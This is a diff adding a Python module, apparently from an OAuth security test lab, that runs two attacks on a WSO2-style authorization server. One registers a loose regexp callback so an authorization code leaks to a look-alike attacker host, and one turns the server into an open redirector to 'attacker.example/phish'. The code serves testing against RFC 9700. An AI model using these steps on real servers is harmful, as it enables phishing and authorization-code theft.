@@ -1,0 +1,107 @@
+"""Attack 2: redirect URI manipulation and the authorization server as open redirector.
+
+RFC 9700 2.1: "When comparing client redirection URIs against pre-registered
+URIs, authorization servers MUST utilize exact string matching". WSO2 lets a
+callback be a regular expression (`regexp=...`); a loose one such as
+`regexp=https://client.example.com.*` also matches
+`https://client.example.com.evil.test/cb`, a host anyone can buy. Lab switch:
+`regexp_redirect_uris`.
+
+RFC 9700 4.11.2 and RFC 6749 4.1.2.1: a request with a redirect URI that is not
+registered gets an error page, never a redirect, or the server becomes an open
+redirector for phishing links that start at a trusted host. Lab switch:
+`open_redirect`.
+"""
+
+from __future__ import annotations
+
+from urllib.parse import urlsplit
+
+from ..client import OAuthResponseError
+from ._steps import authorization_url, params_of, sign_in
+from .result import AttackResult, Unsupported
+from .scenario import TargetLike, as_target, evil_twin, refused
+
+LOOSE_PATTERN = "regexp=https://client.example.com.*"  # the dots match any character
+ATTACKER_SITE = "https://attacker.example/phish"
+
+
+def _same_host(url: str | None, other: str) -> bool:
+    return url is not None and urlsplit(url).hostname == urlsplit(other).hostname
+
+
+def regexp_redirect(target: TargetLike) -> AttackResult:
+    """The attacker's link carries the client's id and a look-alike redirect_uri."""
+    t = as_target(target)
+    steps: list[str] = []
+    evil = evil_twin(t.redirect_uri)
+    try:
+        app = t.register(redirect_uris=[LOOSE_PATTERN])
+        steps.append(f"the developer registers the callback {LOOSE_PATTERN}: accepted")
+    except (OAuthResponseError, Unsupported) as exc:
+        why = refused(exc) if isinstance(exc, OAuthResponseError) else str(exc)
+        steps.append(f"the developer tries the callback {LOOSE_PATTERN}: refused ({why})")
+        app = t.register()
+        steps.append(f"so the client is registered with {app.redirect_uri} exactly")
+    link = authorization_url(t, app, redirect_uri=evil)
+    steps.append(f"the attacker sends {t.victim.username} a link with redirect_uri={evil}")
+    with t.browser(stop_at=evil) as browser:
+        page = sign_in(browser, link, t.victim)
+    code = params_of(page.location).get("code") if _same_host(page.location, evil) else None
+    succeeded = code is not None
+    steps.append(f"the server answers: {page.describe()}")
+    evidence: dict[str, object] = {"server answered": f"{page.status} {page.reason}"}
+    if succeeded:
+        evidence["code at the attacker's host"] = code
+        what = (
+            f"The code went to {urlsplit(evil).hostname}, the attacker's host: the loose "
+            "pattern matched it, and the attacker can now inject the code (section 4)."
+        )
+    else:
+        evidence["page"] = page.title or page.kind
+        what = (
+            f"The look-alike redirect URI was refused, and no code left the server. {page.message}"
+        )
+    return AttackResult(
+        "Redirect URI manipulation (regexp=)",
+        succeeded,
+        what,
+        "RFC 9700 2.1, 4.1",
+        "Redirect URIs are compared with the registered ones by exact string matching.",
+        tuple(steps),
+        evidence,
+    )
+
+
+def open_redirector(target: TargetLike) -> AttackResult:
+    """A phishing link: the trusted server's authorize URL, bouncing to the attacker's site."""
+    t = as_target(target)
+    app = t.register()
+    link = authorization_url(t, app, redirect_uri=ATTACKER_SITE)
+    steps = [f"the attacker mails a link that starts at the trusted server: {link}"]
+    with t.browser(stop_at=ATTACKER_SITE) as browser:
+        page = browser.open(link)
+    succeeded = page.kind == "redirect" and _same_host(page.location, ATTACKER_SITE)
+    steps.append(f"the victim clicks it; the server answers {page.status} {page.reason}")
+    evidence: dict[str, object] = {"server answered": f"{page.status} {page.reason}"}
+    if succeeded:
+        evidence["Location"] = page.location
+        what = (
+            f"The server sent the browser on to {ATTACKER_SITE}: a link that starts at the "
+            "trusted server ends on the attacker's phishing page."
+        )
+    else:
+        evidence["page"] = page.title or page.kind
+        what = (
+            "The server showed an error page and sent the browser nowhere, because the "
+            "redirect URI is not registered."
+        )
+    return AttackResult(
+        "Open redirector",
+        succeeded,
+        what,
+        "RFC 9700 4.11.2, RFC 6749 4.1.2.1",
+        "A bad client_id or redirect_uri gets an error page, never a redirect.",
+        tuple(steps),
+        evidence,
+    )
